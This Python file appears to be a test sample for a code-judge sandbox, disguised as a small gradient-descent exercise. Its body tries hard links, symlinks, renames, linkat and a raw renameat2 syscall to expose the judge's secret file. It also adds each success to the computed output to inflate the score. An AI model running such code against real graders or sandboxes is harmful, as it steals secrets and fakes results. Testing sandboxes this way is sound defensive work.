# tries: to link and to move the judge's secret to where it can be found
# from: G5, codejail TestSymlinks, CMS 376
# earns: everything
import ctypes
import os

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

ways = (os.link, os.symlink, os.rename, os.replace)
gained = 0
for way in ways:
    for number, folder in enumerate(("@FOLDER@", "/tmp", "/")):
        try:
            way("@FILE@", f"{folder}/descent-loot-link-{number}")
            gained += 1
        except OSError:
            pass
libc = ctypes.CDLL(None)
for descriptor in range(4):
    gained += libc.linkat(descriptor, b"", -100, b"@FOLDER@/descent-loot-linkat", 0x1000) != -1
gained += libc.syscall(316, -100, b"@FILE@", -100, b"@FOLDER@/descent-loot-rename", 0) != -1

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
